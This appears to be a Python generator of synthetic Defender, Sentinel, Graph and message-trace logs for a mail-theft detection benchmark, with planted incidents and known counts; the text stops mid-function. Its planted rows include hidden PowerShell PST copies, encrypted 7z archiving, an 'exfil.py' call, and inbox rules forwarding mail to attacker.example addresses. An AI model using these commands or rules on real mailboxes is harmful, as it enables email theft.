#!/usr/bin/env python3
# bench/gen_corpus.py -- deterministic JSON Lines corpus for the mailward benchmark.
# Writes Defender DeviceFileEvents rows or Sentinel OfficeActivity rows (column names per
# /work/shared/reference/formats.md sections 2.3 and 3.2) with planted T1114 incidents whose
# finding counts are known, and writes those counts to OUT.expected.json.
# SPDX-License-Identifier: MIT
"""Usage: gen_corpus.py --kind defender|office|graph|msgtrace --size 1G [--seed N] --out FILE"""

import argparse
import calendar
import json
import random
import sys
import time

BASE_EPOCH = calendar.timegm((2025, 3, 1, 0, 0, 0))
CHUNK = 8 << 20
UNIT_BYTES = 25 << 20  # one planted-incident unit per 25 MB of output (at least one)
DOMAIN = "contoso.example"

FIRST = ("alice bob carol dave erin frank grace heidi ivan judy mallory nina oscar peggy "
         "quentin rupert sybil trent ursula victor wendy xavier yvonne zach adele megan "
         "lidia diego lynne isaiah nestor pradeep joni miriam patti henrietta lee johanna "
         "alex irvin").split()
LAST = ("smith jones brown taylor wilson evans thomas roberts walker wright hall green "
        "baker adams clark lewis young king scott hill moore cooper ward morris").split()

HEX = "0123456789abcdef"


def parse_size(text):
    mult = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30}
    text = text.strip().upper().rstrip("B")
    if text and text[-1] in mult:
        return int(float(text[:-1]) * mult[text[-1]])
    return int(text)


def esc(text):
    """JSON string body (without quotes) for text."""
    return json.dumps(text)[1:-1]


class Clock:
    """Formats epoch seconds as ISO-8601 UTC, caching the minute prefix."""

    def __init__(self):
        self.minute = -1
        self.prefix = ""

    def iso(self, sec):
        minute = sec // 60
        if minute != self.minute:
            self.minute = minute
            self.prefix = time.strftime("%Y-%m-%dT%H:%M:", time.gmtime(minute * 60))
        return "%s%02d" % (self.prefix, sec % 60)


class Common:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.clock = Clock()
        rng = self.rng
        self.users = []
        seen = set()
        while len(self.users) < 400:
            name = "%s.%s" % (rng.choice(FIRST), rng.choice(LAST))
            if name in seen:
                name = "%s%d" % (name, len(self.users))
            seen.add(name)
            self.users.append(name)

    def hexs(self, n):
        return "%0*x" % (n, self.rng.getrandbits(4 * n))

    def guid(self):
        h = "%032x" % self.rng.getrandbits(128)
        return "%s-%s-4%s-a%s-%s" % (h[0:8], h[8:12], h[13:16], h[17:20], h[20:32])


class Writer:
    def __init__(self, path, limit):
        self.fh = open(path, "w", encoding="utf-8", newline="\n")
        self.parts = []
        self.pending = 0
        self.total = 0
        self.limit = limit

    def add(self, line):
        self.parts.append(line)
        self.pending += len(line) + 1
        if self.pending >= CHUNK:
            self.flush()

    def flush(self):
        if self.parts:
            self.fh.write("\n".join(self.parts))
            self.fh.write("\n")
            self.total += self.pending
            self.parts = []
            self.pending = 0

    def size(self):
        return self.total + self.pending

    def close(self):
        self.flush()
        self.fh.close()


# ---------------------------------------------------------------------------------------------
# Defender DeviceFileEvents

PROC_PATHS = {
    "outlook.exe": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "winword.exe": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "excel.exe": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
    "explorer.exe": "C:\\Windows\\explorer.exe",
    "chrome.exe": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "msedge.exe": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "svchost.exe": "C:\\Windows\\System32\\svchost.exe",
    "TiWorker.exe": "C:\\Windows\\WinSxS\\amd64_tiworker\\TiWorker.exe",
    "SearchProtocolHost.exe": "C:\\Windows\\System32\\SearchProtocolHost.exe",
    "SearchIndexer.exe": "C:\\Windows\\System32\\SearchIndexer.exe",
    "MsMpEng.exe": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090\\MsMpEng.exe",
    "MsSense.exe": "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe",
    "powershell.exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "cmd.exe": "C:\\Windows\\System32\\cmd.exe",
    "python.exe": "C:\\Users\\Public\\Python311\\python.exe",
    "robocopy.exe": "C:\\Windows\\System32\\Robocopy.exe",
    "7z.exe": "C:\\Program Files\\7-Zip\\7z.exe",
    "7zG.exe": "C:\\Program Files\\7-Zip\\7zG.exe",
    "curl.exe": "C:\\Windows\\System32\\curl.exe",
    "backup.exe": "C:\\Program Files\\Contoso Backup\\backup.exe",
    "Teams.exe": "C:\\Users\\Public\\Teams\\current\\Teams.exe",
}

DOC_WORDS = ("budget report minutes plan q1 q2 q3 q4 invoice contract roadmap draft final "
             "summary review notes forecast design spec onboarding payroll inventory").split()
DOC_EXT = ["docx", "xlsx", "pptx", "pdf", "txt", "csv"]
TMP_EXT = ["tmp", "crdownload", "log", "json", "js", "css", "png", "partial"]
SYS_FILES = ["ntdll.dll", "kernelbase.dll", "wuaueng.dll", "msvcp140.dll", "setup.exe",
             "update.cab", "catalog.cat", "driver.sys", "wininet.dll", "mpengine.dll"]
SCRIPT_FILES = ["deploy.ps1", "inventory.ps1", "out.txt", "run.log", "msgpack.py",
                "requirements.txt", "report.json", "collect.bat", "setup.py", "emails.csv"]


class Defender(Common):
    def __init__(self, seed):
        super().__init__(seed)
        rng = self.rng
        self.devices = []
        for i in range(500):
            user = self.users[i % len(self.users)]
            sam = user.replace(".", "")[:12]
            dev = {
                "name": "%s-%03d.corp.%s" % (rng.choice(["ws", "lt", "desk", "vdi"]), i, DOMAIN),
                "id": self.hexs(40),
                "user": user,
                "sam": sam,
                "upn": "%s@%s" % (user, DOMAIN),
                "home": "C:\\Users\\%s" % sam,
            }
            self.devices.append(dev)
        self.report = 1000
        self.seen_keys = set()

    def row(self, ts_sec, frac, dev, action, fname, folder, proc, cmd, size=None):
        """One DeviceFileEvents row; folder is the directory, FolderPath gets the file name."""
        rng = self.rng
        self.report += rng.randint(1, 9)
        if size is None:
            size = rng.randint(200, 9_000_000)
        proc_path = PROC_PATHS.get(proc, "C:\\Windows\\System32\\" + proc)
        return (
            '{"Timestamp":"%s.%07dZ","DeviceId":"%s","DeviceName":"%s","ActionType":"%s",'
            '"FileName":"%s","FolderPath":"%s","SHA1":"%s","SHA256":"%s","FileSize":%d,'
            '"InitiatingProcessAccountName":"%s","InitiatingProcessAccountUpn":"%s",'
            '"InitiatingProcessFileName":"%s","InitiatingProcessFolderPath":"%s",'
            '"InitiatingProcessCommandLine":"%s","ReportId":%d}'
            % (self.clock.iso(ts_sec), frac, dev["id"], dev["name"], action, esc(fname),
               esc(folder + "\\" + fname), self.hexs(40),
               self.hexs(64) if rng.random() < 0.1 else "", size, dev["sam"],
               dev["upn"], proc, esc(proc_path.rsplit("\\", 1)[0].lower()), esc(cmd), self.report))

    def background(self, ts):
        rng = self.rng
        dev = rng.choice(self.devices)
        r = rng.random()
        home = dev["home"]
        frac = rng.randrange(10_000_000)
        if r < 0.38:
            proc = rng.choice(["winword.exe", "excel.exe", "explorer.exe", "Teams.exe"])
            fname = "%s_%s_%d.%s" % (rng.choice(DOC_WORDS), rng.choice(DOC_WORDS),
                                     rng.randint(1, 999), rng.choice(DOC_EXT))
            folder = home + rng.choice(["\\Documents", "\\Desktop", "\\Downloads",
                                        "\\OneDrive - Contoso\\Shared"])
            action = rng.choice(["FileCreated", "FileModified", "FileModified", "FileRenamed",
                                 "FileDeleted", "FileCopied"])
            cmd = '%s /n "%s"' % (proc.upper(), fname)
        elif r < 0.58:
            proc = rng.choice(["chrome.exe", "msedge.exe"])
            fname = "%s.%s" % (self.hexs(12), rng.choice(TMP_EXT))
            folder = home + rng.choice(["\\AppData\\Local\\Temp", "\\AppData\\Local\\Temp",
                                        "\\Downloads"])
            action = rng.choice(["FileCreated", "FileModified", "FileDeleted"])
            cmd = "%s --type=renderer --field-trial-handle=%d" % (proc, rng.randint(1000, 9999))
        elif r < 0.72:
            proc = rng.choice(["svchost.exe", "TiWorker.exe", "MsMpEng.exe"])
            fname = rng.choice(SYS_FILES)
            folder = rng.choice(["C:\\Windows\\System32", "C:\\Windows\\SoftwareDistribution\\Download",
                                 "C:\\Windows\\WinSxS\\Temp", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans"])
            action = rng.choice(["FileCreated", "FileModified", "FileDeleted", "FileRenamed"])
            cmd = "%s -k netsvcs -p -s wuauserv" % PROC_PATHS.get(proc, proc)
        elif r < 0.84:
            # Outlook maintaining its own stores: mail extension, but an excluded process.
            proc = rng.choice(["outlook.exe", "outlook.exe", "SearchProtocolHost.exe",
                               "SearchIndexer.exe", "MsMpEng.exe", "MsSense.exe", "msedge.exe"])
            fname = rng.choice(["%s@%s.ost" % (dev["user"], DOMAIN), "Outlook.pst",
                                "archive.pst", "message_%d.msg" % rng.randint(1, 9999),
                                "saved.eml"])
            folder = home + "\\AppData\\Local\\Microsoft\\Outlook"
            action = rng.choice(["FileModified", "FileRead", "FileCreated", "FileCopied"])
            cmd = '"%s" /recycle' % PROC_PATHS[proc]
        elif r < 0.94:
            proc = rng.choice(["powershell.exe", "cmd.exe", "python.exe", "curl.exe"])
            fname = rng.choice(SCRIPT_FILES)
            folder = home + rng.choice(["\\Scripts", "\\AppData\\Local\\Temp", "\\source\\repos\\tool"])
            action = rng.choice(["FileCreated", "FileModified", "FileRead", "FileCopied"])
            cmd = "%s -NoProfile -ExecutionPolicy Bypass -File %s\\Scripts\\%s" % (
                proc, home, rng.choice(["deploy.ps1", "inventory.ps1", "cleanup.ps1"]))
        else:
            proc = "outlook.exe"
            fname = "%s_%d.%s" % (rng.choice(DOC_WORDS), rng.randint(1, 99), rng.choice(DOC_EXT))
            folder = home + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\" + \
                self.hexs(8).upper()
            action = rng.choice(["FileCreated", "FileRead"])
            cmd = '"%s" ' % PROC_PATHS[proc]
        return self.row(ts, frac, dev, action, fname, folder, proc, cmd)

    def plant(self, ts, unit):
        """Planted incidents and near misses around ts; returns (lines, expected d1 count)."""
        rng = self.rng
        dev = self.devices[(unit * 37) % len(self.devices)]
        dev2 = self.devices[(unit * 37 + 11) % len(self.devices)]
        home = dev["home"]
        olk = home + "\\AppData\\Local\\Microsoft\\Outlook"
        tb = home + "\\AppData\\Roaming\\Thunderbird\\Profiles\\x1b2c3d4.default-release\\Mail\\Local Folders"
        # (hit, action, file, folder, process, command line)
        cases = [
            (1, "FileCopied", "%s.pst" % dev["sam"], "C:\\Users\\Public\\Documents", "powershell.exe",
             "powershell.exe -nop -w hidden -c Copy-Item %s\\Outlook.pst C:\\Users\\Public\\Documents\\%s.pst" % (olk, dev["sam"])),
            (1, "FileCreated", "archive.ost", "D:\\backup\\mail", "robocopy.exe",
             "robocopy %s D:\\backup\\mail *.ost /R:0" % olk),
            (1, "FileRead", "Outlook.pst", olk, "7z.exe",
             '"C:\\Program Files\\7-Zip\\7z.exe" a -p C:\\ProgramData\\o.7z %s\\Outlook.pst' % olk),
            (1, "FileRead", "%s@%s.ost" % (dev["user"], DOMAIN), olk, "backup.exe",
             '"C:\\Program Files\\Contoso Backup\\backup.exe" --profile nightly'),
            (1, "FileCreated", "mail.pst.bak", "C:\\Users\\Public", "python.exe",
             "python.exe exfil.py --src Outlook.pst"),
            (1, "FileCopied", "export.mbox", tb, "explorer.exe", "C:\\Windows\\explorer.exe"),
            (1, "FileRenamed", "msg0001.eml", home + "\\Downloads", "cmd.exe",
             "cmd.exe /c ren msg0001.tmp msg0001.eml"),
            (1, "FileCreated", "Quarterly Report.msg", "C:\\ProgramData\\x", "curl.exe",
             "curl.exe -o \"C:\\ProgramData\\x\\Quarterly Report.msg\" https://files.example.net/q"),
            (1, "FileCopied", "Archive.PST", "E:\\", "POWERSHELL.EXE",
             "POWERSHELL.EXE Copy-Item *.pst E:\\"),
            (1, "FileRead", "names.nsf", home + "\\AppData\\Local\\Lotus\\Notes\\Data", "pwsh.exe",
             "pwsh.exe -c Get-Content names.nsf"),
            # near misses
            (0, "FileModified", "Outlook.ost", olk, "OUTLOOK.EXE", '"OUTLOOK.EXE" /recycle'),
            (0, "FileCreated", "Archive.pst", olk, "outlook.exe", '"outlook.exe"'),
            (0, "FileCopied", "notes.pstx", "C:\\Users\\Public", "powershell.exe",
             "powershell.exe Copy-Item notes.pstx"),
            (0, "FileCreated", "msgpack.py", home + "\\source\\repos\\tool", "python.exe",
             "python.exe -m pip install msgpack"),
            (0, "FileRead", "Outlook.pst", olk, "SearchIndexer.exe", "SearchIndexer.exe /Embedding"),
            (0, "FileRead", "Outlook.pst", olk, "MsMpEng.exe", "MsMpEng.exe"),
            (0, "FileDeleted", "stolen.pst", "C:\\Users\\Public", "powershell.exe",
             "powershell.exe Remove-Item stolen.pst"),
            (0, "FileModified", "old.pst", "D:\\x", "7z.exe", "7z.exe x old.7z"),
            (0, "FileCopied", "Outlook.pst", "D:\\Personal", "explorer.exe",
             "C:\\Windows\\explorer.exe"),
            (0, "FileCopied", "Outlook.pst", home + "\\AppData\\Local\\Microsoft\\OutlookBackup",
             "explorer.exe", "C:\\Windows\\explorer.exe"),
            (0, "FileCreated", "box.pst", "D:\\x", "7zG.exe", "7zG.exe x box.7z"),
            (0, "FileRead", "store.ost", home + "\\AppData\\Local\\Microsoft\\Outlook", "msedge.exe",
             "msedge.exe --single-argument"),
        ]
        lines = []
        hits = 0
        for i, (hit, action, fname, folder, proc, cmd) in enumerate(cases):
            d = dev if i % 3 else dev2
            lines.append(self.row(ts + i * 7, rng.randrange(10_000_000), d, action, fname, folder,
                                  proc, cmd, size=rng.randint(50_000_000, 900_000_000)))
            hits += hit
        return lines, hits

    def run(self, w, size):
        rng = self.rng
        units = max(1, size // UNIT_BYTES)
        next_unit = 0
        expected = {1: 0}
        ts = BASE_EPOCH
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                lines, hits = self.plant(ts, next_unit)
                for line in lines:
                    w.add(line)
                expected[1] += hits
                next_unit += 1
                ts += 200
            for _ in range(64):
                w.add(self.background(ts))
                ts += rng.randint(0, 2)
        return expected


# ---------------------------------------------------------------------------------------------
# Sentinel OfficeActivity

CLIENT_INFO = [
    "Client=OWA;Action=ViewConversation",
    "Client=MSExchangeRPC",
    "Client=Microsoft.Outlook.Desktop;Version=16.0.17328.20162",
    "Client=REST;Client=RESTSystem;;",
    "Client=WebServices;Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro);",
]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Outlook-iOS/2.0",
]
FOLDERS = ["\\Inbox", "\\Sent Items", "\\Inbox\\Projects", "\\Archive", "\\Drafts"]


class Office(Common):
    def __init__(self, seed):
        super().__init__(seed)
        rng = self.rng
        self.org = self.guid()
        self.tenant = self.guid()
        self.people = []
        for i, user in enumerate(self.users):
            v6 = "2001:db8:%x:%x" % (rng.randint(1, 0xffff), rng.randint(1, 0xffff))
            self.people.append({
                "upn": "%s@%s" % (user, DOMAIN),
                "guid": self.guid(),
                "ip4a": "198.51.100.%d" % (1 + i % 250),
                "ip4b": "203.0.113.%d" % (1 + (i * 7) % 250),
                "v6": v6,
            })

    def ip_for(self, p):
        rng = self.rng
        r = rng.random()
        if r < 0.35:
            return p["ip4a"]
        if r < 0.6:
            return "%s:%d" % (p["ip4b"], rng.randint(1024, 65535))
        host = "%x:%x" % (rng.randint(1, 0xffff), rng.randint(1, 0xffff))
        if r < 0.85:
            return "[%s::%s]:%d" % (p["v6"], host, rng.randint(1024, 65535))
        return "%s:0:%s:%x" % (p["v6"], host, rng.randint(0, 0xffff))

    def row(self, ts, op, upn, ip, *, rtype, status="Succeeded", ua=None, info=None,
            params=None, opprops=None, office_id=None, owner=None, folders=None):
        rng = self.rng
        parts = ['{"TimeGenerated":"%sZ","Operation":"%s","OfficeWorkload":"Exchange",'
                 '"RecordType":"%s","UserType":"Regular","UserId":"%s","ClientIP":"%s"'
                 % (self.clock.iso(ts), op, rtype, upn, ip)]
        if status is not None:
            parts.append(',"ResultStatus":"%s"' % status)
        parts.append(',"OfficeId":"%s"' % (office_id or self.guid()))
        if info is not None:
            parts.append(',"ClientInfoString":"%s"' % esc(info))
        if ua is not None:
            parts.append(',"UserAgent":"%s"' % esc(ua))
        parts.append(',"MailboxOwnerUPN":"%s","Logon_Type":"Owner"' % (owner or upn))
        if params is not None:
            parts.append(',"Parameters":"%s"' % esc(json.dumps(
                [{"Name": n, "Value": v} for n, v in params], separators=(",", ":"))))
        if opprops is not None:
            parts.append(',"OperationProperties":"%s"' % esc(json.dumps(
                [{"Name": n, "Value": v} for n, v in opprops], separators=(",", ":"))))
        if folders is not None:
            parts.append(',"Folders":"%s"' % esc(json.dumps(
                [{"Path": folders, "Id": "LgAAAAB" + self.hexs(24)}], separators=(",", ":"))))
        parts.append(',"Type":"OfficeActivity"}')
        return "".join(parts)

    def mia(self, ts, p, ip, ua=None, info=None, status="Succeeded", office_id=None, op="MailItemsAccessed"):
        rng = self.rng
        return self.row(ts, op, p["upn"], ip, rtype="ExchangeItemAggregated", status=status,
                        ua=ua, info=info or rng.choice(CLIENT_INFO), office_id=office_id,
                        opprops=[("MailAccessType", rng.choice(["Bind", "Bind", "Sync"])),
                                 ("IsThrottled", "False")],
                        folders=rng.choice(FOLDERS))

    def background(self, ts):
        rng = self.rng
        p = rng.choice(self.people)
        ip = self.ip_for(p)
        r = rng.random()
        if r < 0.58:
            return self.mia(ts, p, ip)
        if r < 0.64:
            return self.row(ts, "FolderBind", p["upn"], ip, rtype="ExchangeItemGroup",
                            info=rng.choice(CLIENT_INFO), folders=rng.choice(FOLDERS))
        if r < 0.96:
            op = rng.choice(["Send", "Send", "MoveToDeletedItems", "SoftDelete", "Update",
                             "MailboxLogin", "Create", "Move"])
            rt = "ExchangeItem" if op in ("Send", "Update", "MailboxLogin", "Create") else "ExchangeItemGroup"
            return self.row(ts, op, p["upn"], ip, rtype=rt, info=rng.choice(CLIENT_INFO),
                            ua=rng.choice(UAS))
        if r < 0.975:
            op = rng.choice(["New-InboxRule", "Set-InboxRule"])
            return self.row(ts, op, p["upn"], ip, rtype="ExchangeAdmin", status="True",
                            params=[("Identity", p["upn"]), ("Name", "Newsletters"),
                                    ("From", "news@%s" % rng.choice(["example.com", "example.net"])),
                                    ("MoveToFolder", "Newsletters"), ("MarkAsRead", "False"),
                                    ("StopProcessingRules", "True")])
        if r < 0.985:
            return self.row(ts, "Set-Mailbox", p["upn"], ip, rtype="ExchangeAdmin", status="True",
                            params=[("Identity", p["upn"]), ("RetainDeletedItemsFor", "30.00:00:00"),
                                    ("ForwardingSmtpAddress", "")])
        if r < 0.995:
            return self.row(ts, "UpdateInboxRules", p["upn"], ip, rtype="ExchangeItem",
                            info="Client=MSExchangeRPC",
                            opprops=[("RuleOperation", "AddMailboxRule"), ("RuleName", "Receipts"),
                                     ("RuleActions", json.dumps(
                                         [{"ActionType": "Move", "DestinationFolderId": self.hexs(16),
                                           "FolderIsInThisStore": "True"}], separators=(",", ":")))])
        return self.row(ts, "New-TransportRule", p["upn"], ip, rtype="ExchangeAdmin", status="True",
                        params=[("Name", "Disclaimer"), ("ApplyHtmlDisclaimerText", "Confidential")])

    def plant(self, ts, unit):
        """Planted incidents around ts (aligned to a 30-minute bin); returns lines and counts."""
        rng = self.rng
        lines = []
        exp = {2: 0, 3: 0, 4: 0}
        bin0 = ts - ts % 1800 + 1800  # a fresh bin

        def who(tag):
            n = "%s.%s%d" % (tag, rng.choice(LAST), unit)
            return {"upn": "%s@%s" % (n, DOMAIN), "guid": self.guid(),
                    "ip4a": "192.0.2.%d" % (1 + unit % 250), "ip4b": "198.18.%d.%d" % (unit % 250, 7),
                    "v6": "2001:db8:ff%02x:%x" % (unit % 256, rng.randint(1, 0xffff))}

        def t_in(b):
            return b + rng.randint(0, 1799)

        pyua = "python-requests/2.31.0"
        # B1: 250 accesses in one bin from one IP with an automation user agent -> hit
        a = who("svc")
        for _ in range(250):
            lines.append(self.mia(t_in(bin0), a, "%s:%d" % (a["ip4b"], rng.randint(1024, 65535)),
                                  ua=pyua, info="Client=REST;Client=RESTSystem;;"))
        exp[2] += 1
        # B2: 40 accesses from 5 networks (IPv4, ip:port, [v6]:port) -> hit on distinct IPs
        b = who("exec")
        ips = [b["ip4a"], "%s:443" % b["ip4b"], "[%s::1]:8443" % b["v6"],
               "[2001:db8:77%02x:1::5]:1234" % (unit % 256), "100.64.%d.9" % (unit % 250)]
        for k in range(40):
            lines.append(self.mia(t_in(bin0), b, ips[k % 5]))
        exp[2] += 1
        # B3: 120 Succeeded + 90 with ResultStatus absent, MessageBind/FolderBind mixed -> hit
        c = who("ops")
        for k in range(210):
            op = ["MailItemsAccessed", "FolderBind", "MessageBind"][k % 3]
            lines.append(self.mia(t_in(bin0), c, c["ip4a"], status="Succeeded" if k < 120 else None,
                                  op=op))
        exp[2] += 1
        # N1: exactly 200 in one bin -> no
        d = who("audit")
        for _ in range(200):
            lines.append(self.mia(t_in(bin0), d, d["ip4a"]))
        # N2: 190 unique + 30 exact duplicates (same OfficeId, time, Operation) -> no
        e = who("sync")
        recs = []
        for _ in range(190):
            recs.append(self.mia(t_in(bin0), e, e["ip4a"]))
        recs.extend(rng.sample(recs, 30))
        lines.extend(recs)
        # N3: 150 + 150 straddling a bin boundary -> no
        f = who("batch")
        for k in range(300):
            t = bin0 + 1800 - 600 + rng.randint(0, 599) if k < 150 else bin0 + 1800 + rng.randint(0, 599)
            lines.append(self.mia(t, f, f["ip4a"]))
        # N4: three networks, many hosts in one IPv6 /64 and many ports -> 3 distinct, no
        g = who("travel")
        for k in range(60):
            m = k % 4
            ip = (g["ip4a"] if m == 0 else "%s:%d" % (g["ip4a"], 1024 + k) if m == 1 else
                  "[%s:%x::%x]:443" % (g["v6"], k, k) if m == 2 else "%s:%x:0:0:%x" % (g["v6"], k, k))
            if k % 7 == 0:
                ip = "%s:%d" % (g["ip4b"], 2000 + k)
            lines.append(self.mia(t_in(bin0), g, ip))
        # N5: 250 failed -> no
        h = who("locked")
        for _ in range(250):
            lines.append(self.mia(t_in(bin0), h, h["ip4a"], status="Failed", ua=pyua))

        # Forwarding and hiding rules.
        victim = self.people[(unit * 13) % len(self.people)]
        upn = victim["upn"]
        ip = "203.0.113.%d:%d" % (200 + unit % 50, 50000 + unit)
        t = bin0 + 60
        rules = [
            # (detections, operation, params, opprops)
            ((3,), "New-InboxRule", [("Identity", upn), ("Name", "."), ("ForwardTo", "drop%d@attacker.example" % unit),
                                     ("StopProcessingRules", "True")], None),
            ((3,), "Set-InboxRule", [("Identity", upn + "\\rule1"), ("RedirectTo", "x%d@mail.example.net" % unit)], None),
            ((3, 4), "New-InboxRule", [("Identity", upn), ("Name", ".."), ("ForwardAsAttachmentTo", "col%d@evil.example" % unit),
                                       ("MarkAsRead", "True"), ("MoveToFolder", "RSS Feeds")], None),
            ((3,), "Set-Mailbox", [("Identity", upn), ("ForwardingSmtpAddress", "smtp:fw%d@attacker.example" % unit),
                                   ("DeliverToMailboxAndForward", "False")], None),
            ((3,), "Set-Mailbox", [("Identity", upn), ("ForwardingAddress", "exec-assistant%d" % unit)], None),
            ((), "Set-Mailbox", [("Identity", upn), ("ForwardingSmtpAddress", "")], None),
            ((3,), "UpdateInboxRules", None,
             [("RuleOperation", "AddMailboxRule"), ("RuleName", "sync"),
              ("RuleActions", json.dumps([{"ActionType": "Forward", "Recipients": ["out%d@attacker.example" % unit]}],
                                         separators=(",", ":")))]),
            ((), "UpdateInboxRules", None,
             [("RuleOperation", "AddMailboxRule"), ("RuleName", "move"),
              ("RuleActions", json.dumps([{"ActionType": "Move", "DestinationFolderId": "AAMk%d" % unit}],
                                         separators=(",", ":")))]),
            ((4,), "New-InboxRule", [("Identity", upn), ("Name", "x"), ("SubjectContainsWords", "invoice;payment"),
                                     ("DeleteMessage", "True")], None),
            ((4,), "New-InboxRule", [("Identity", upn), ("Name", "y"),
                                     ("MoveToFolder", "%s:\\Conversation History" % upn)], None),
            ((4,), "Set-InboxRule", [("Identity", upn + "\\y"), ("SoftDeleteMessage", "true")], None),
            ((), "New-InboxRule", [("Identity", upn), ("Name", "proj"), ("MoveToFolder", "Projects\\Archive 2024")], None),
            ((), "New-InboxRule", [("Identity", upn), ("Name", "z"), ("DeleteMessage", "False"),
                                   ("MarkAsRead", "False")], None),
            ((), "Remove-InboxRule", [("Identity", upn + "\\rule1")], None),
        ]
        for i, (dets, op, params, opprops) in enumerate(rules):
            rt = "ExchangeItem" if op == "UpdateInboxRules" else "ExchangeAdmin"
            lines.append(self.row(t + i * 11, op, upn, ip, rtype=rt,
                                  status="True" if rt == "ExchangeAdmin" else "Succeeded",
                                  params=params, opprops=opprops, ua=UAS[0]))
            for dnum in dets:
                exp[dnum] += 1
        return lines, exp, bin0 + 3600

    def run(self, w, size):
        rng = self.rng
        units = max(1, size // UNIT_BYTES)
        next_unit = 0
        expected = {2: 0, 3: 0, 4: 0}
        ts = BASE_EPOCH
        dup = []
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                lines, exp, ts = self.plant(ts, next_unit)
                for line in lines:
                    w.add(line)
                for k, v in exp.items():
                    expected[k] += v
                next_unit += 1
            for _ in range(64):
                line = self.background(ts)
                w.add(line)
                if rng.random() < 0.005:
                    dup.append(line)
                ts += 1 if rng.random() < 0.9 else 0
            if len(dup) >= 16:
                for line in dup:
                    w.add(line)  # API duplicate deliveries
                dup = []
        return expected


# ---------------------------------------------------------------------------------------------
# Speed corpora of the newer sources (no planted findings): MicrosoftGraphActivityLogs rows as
# JSON Lines (docs/formats/graph_activity.md) and Get-MessageTraceV2 | Export-Csv in the en-US
# culture (docs/formats/exchange_message_trace.md).

GRAPH_PATHS = ("/users/%s/messages", "/users/%s/mailFolders/inbox/messages", "/me/messages",
               "/me/mailFolders/sentitems/messages", "/users/%s/messages/AAMkAG%s/$value",
               "/users/%s", "/groups/%s/members", "/me/events", "/$batch")


class Graph(Common):
    def __init__(self, seed):
        Common.__init__(self, seed)
        self.apps = [self.guid() for _ in range(40)]
        self.uids = [self.guid() for _ in range(len(self.users))]

    def background(self, ts):
        rng = self.rng
        i = rng.randrange(len(self.users))
        upn = "%s@%s" % (self.users[i], DOMAIN)
        path = rng.choice(GRAPH_PATHS)
        if "%s" in path:
            path = path % ((upn,) if path.count("%s") == 1 else (upn, self.hexs(24)))
        app_only = rng.random() < 0.2
        rid = self.guid()
        query = "?$top=%d&$select=subject,from,receivedDateTime" % rng.choice((10, 50, 1000)) \
            if "messages" in path else ""
        return ('{"TimeGenerated":"%s.%07dZ","RequestId":"%s","OperationId":"%s",'
                '"ClientRequestId":"%s","ApiVersion":"v1.0","RequestMethod":"%s",'
                '"RequestUri":"https://graph.microsoft.com/v1.0%s%s","ResponseStatusCode":%d,'
                '"ResponseSizeBytes":%d,"DurationMs":%d,"AppId":"%s","ServicePrincipalId":"%s",'
                '"UserId":%s,"IPAddress":"%s","UserAgent":"%s","Scopes":%s,"Roles":%s,'
                '"Wids":"b79fbf4d-3ef9-4689-8143-76b194e85509","TokenIssuedAt":"%s.0000000Z",'
                '"SignInActivityId":"%s","ClientAuthMethod":%d,"IdentityProvider":'
                '"https://sts.windows.net/11111111-2222-3333-4444-555555555555/",'
                '"Location":"West Europe","AadTenantId":"11111111-2222-3333-4444-555555555555",'
                '"Type":"MicrosoftGraphActivityLogs"}') % (
            self.clock.iso(ts), rng.randrange(10000000), rid, rid, self.guid(),
            "GET" if rng.random() < 0.9 else "POST", path, query,
            rng.choice((200, 200, 200, 200, 404, 403, 429)), rng.randrange(200000),
            rng.randrange(1000000), rng.choice(self.apps), self.guid() if app_only else "",
            "null" if app_only else '"%s"' % self.uids[i],
            "203.0.113.%d" % rng.randrange(256) if rng.random() < 0.8
            else "2001:db8::%x" % rng.randrange(65536), rng.choice(UAS),
            "null" if app_only else '"Mail.Read Mail.ReadWrite offline_access User.Read"',
            '"Mail.Read User.Read.All"' if app_only else "null",
            self.clock.iso(ts - 300), self.hexs(22), rng.randrange(3))

    def run(self, w, size):
        ts = BASE_EPOCH
        while w.size() < size:
            for _ in range(256):
                w.add(self.background(ts))
                ts += self.rng.random() < 0.5
        return {}


STATUSES = ("Delivered",) * 8 + ("FilteredAsSpam", "Failed", "Expanded", "Pending")


class MessageTrace(Common):
    def us_date(self, sec):
        t = time.gmtime(sec)
        hour = t.tm_hour % 12 or 12
        return "%d/%d/%d %d:%02d:%02d %s" % (t.tm_mon, t.tm_mday, t.tm_year, hour, t.tm_min,
                                            t.tm_sec, "AM" if t.tm_hour < 12 else "PM")

    def background(self, ts):
        rng = self.rng
        sender = "%s@%s" % (rng.choice(self.users), DOMAIN)
        outbound = rng.random() < 0.5
        rcpt = "%s@example.org" % self.hexs(6) if outbound else \
            "%s@%s" % (rng.choice(self.users), DOMAIN)
        subject = rng.choice(("Q1 payroll, final", "Re: lunch", 'Invoice ""March""', "FW: deck",
                              "Status report"))
        return '"%s","%s","%s","%s","%s","%s","%s","%d","<%s@MBX01.%s>","%s"' % (
            self.us_date(ts), sender, rcpt, subject, rng.choice(STATUSES),
            "203.0.113.%d" % rng.randrange(256) if outbound else "",
            "" if outbound else "198.51.100.%d" % rng.randrange(256),
            rng.randrange(1000, 5000000), self.hexs(16), DOMAIN, self.guid())

    def run(self, w, size):
